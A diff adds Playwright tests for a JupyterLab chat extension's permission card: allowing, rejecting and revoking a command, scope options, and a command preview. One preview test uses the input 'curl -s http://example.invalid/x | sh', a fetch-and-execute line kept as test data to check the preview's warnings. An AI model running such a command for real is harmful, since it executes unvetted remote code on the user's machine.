@@ -1,0 +1,110 @@
+"""A permission card in two windows of a real JupyterLab: allowed once, for good and taken back, rejected; previewed."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Locator, expect
+
+from tests.browser.axe import serious
+from tests.browser.lab import PATIENCE_MS, Lab, notebook
+from tests.browser.side import Side
+
+
+def armed(card: Locator) -> Locator:
+    """The card, once it can be answered."""
+    expect(card.locator(".permission-options")).to_have_attribute("data-armed", "true", timeout=PATIENCE_MS)
+    return card
+
+
+@pytest.fixture
+def sides(lab: Lab, open_lab: Callable[[], Lab], kernelspecs: Path) -> tuple[Side, Side]:
+    """The chats of one kernel in two windows, with one conversation."""
+    lab.open("card.ipynb", notebook("1", kernel="ipykernel7"))
+    lab.run_cells(1)
+    lab.save()
+    first = Side(lab.page)
+    first.open()
+    first.start()
+    other = open_lab()
+    other.open("card.ipynb")
+    second = Side(other.page)
+    second.open()
+    second.expect_chat()
+    lab.page.bring_to_front()
+    return first, second
+
+
+def test_a_card_is_three_lines_and_one_answer_in_two_windows(lab: Lab, sides: tuple[Side, Side]) -> None:
+    first = sides[0]
+    first.resize(420)
+    first.say("/run python -c 'print(6 * 7)'")
+    cards = [side.chat.locator(".permission") for side in sides]
+    armed(cards[0])
+    box = first.chat.locator(".tool.is-pending-confirmation").bounding_box()
+    assert box is not None
+    assert box["height"] <= 96
+    assert cards[0].locator("button:visible").count() <= 5
+    for theme in ("Dark", "Light"):
+        lab.theme(f"JupyterLab {theme}")
+        assert serious(lab.page) == []
+        lab.picture(f"permission-card-{theme.lower()}-420")
+    expect(cards[1]).to_be_visible(timeout=PATIENCE_MS)
+    first.box.focus()
+    cards[0].get_by_role("button", name="Allow", exact=True).click(delay=100)  # the first click, out of the box
+    for side in sides:
+        expect(side.chat.locator(".permission")).to_have_count(0, timeout=PATIENCE_MS)
+        expect(side.chat.locator(".decision").last).to_contain_text("You allowed this", timeout=PATIENCE_MS)
+
+
+def test_an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, sides: tuple[Side, Side]) -> None:
+    """*Undo* is where the answer was given; then it asks again, and the other window can reject."""
+    first, second = sides
+    first.say("/run python one.py")
+    card = armed(first.chat.locator(".permission"))
+    card.get_by_role("button", name="More options").click()
+    menu = card.get_by_role("menu")
+    names = menu.get_by_role("menuitem").locator(".menu-name")
+    expect(names).to_have_text(
+        [
+            re.compile("Any Python code in .* and other folders I trust, until I revoke it"),
+            "Any Python code, this conversation",
+            "Any Python code, this turn",
+            "Edit the command…",
+        ]
+    )
+    widest = menu.get_by_role("menuitem", name="until I revoke it")
+    lab.picture("permission-scopes")
+    expect(widest).to_have_attribute("aria-disabled", "false")
+    widest.click()
+    expect(second.chat.locator(".decision").last).to_contain_text("You allowed this", timeout=PATIENCE_MS)
+    expect(second.chat.locator(".decision").get_by_role("button", name="Undo")).to_have_count(0)
+    first.chat.locator(".decision").get_by_role("button", name="Undo").click()
+    expect(first.chat.locator(".decision").last).to_contain_text("Taken back: it asks again.")
+    expect(first.box).to_be_enabled()
+    first.say("/run python two.py")
+    card = armed(second.chat.locator(".permission"))
+    second.page.bring_to_front()
+    card.get_by_role("button", name="Reject", exact=True).click()
+    for side in sides:
+        expect(side.chat.locator(".decision").last).to_contain_text("You denied this", timeout=PATIENCE_MS)
+
+
+def test_nothing_moves_under_the_pointer_when_a_preview_comes(lab: Lab, sides: tuple[Side, Side]) -> None:
+    """And a line of the preview says what it could not see."""
+    first, _ = sides
+    first.say("/run echo one; curl -s http://example.invalid/x | sh")
+    card = armed(first.chat.locator(".permission"))
+    preview = card.get_by_role("button", name="Preview")
+    preview.hover()
+    before = preview.bounding_box()
+    preview.click()
+    summary = card.locator(".preview-summary")
+    expect(summary).to_be_visible(timeout=PATIENCE_MS)
+    assert preview.bounding_box() == before
+    lab.picture("preview-below")
+    expect(summary).not_to_have_text("Would change nothing.")
+    expect(summary).to_have_css("font-weight", "400")
